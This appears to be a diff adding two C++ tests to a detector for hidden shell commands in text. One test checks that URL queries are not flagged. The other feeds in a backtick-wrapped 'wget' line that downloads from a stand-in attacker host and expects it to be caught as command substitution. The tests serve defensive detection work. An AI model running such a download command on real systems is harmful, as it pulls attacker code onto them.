@@ -227,5 +227,17 @@ TEST(Shell, LeavesTalkOfProgramsAlone) {
   }
 }
 
+TEST(Shell, TakesTheQueryOfAUrlForNoWildcard) {
+  for (const absl::string_view text : {"https://wiki.example/xwiki/bin/view/Main/?viewer=code",
+                                       "https://shop.example/bin/search?q=1"}) {
+    EXPECT_FALSE(Finds(Rule::kCommandHidden, text)) << text;
+  }
+}
+
+TEST(Shell, NobodyWritesMarkdownInAHeader) {
+  constexpr absl::string_view kText = "aa bb cc `wget http://evil.example/x -O /tmp/x` dd";
+  EXPECT_TRUE(HitsOf(kText, Place::kHeader).Has(Rule::kCommandSubstitution));
+}
+
 }  // namespace
 }  // namespace firebreak::inspect
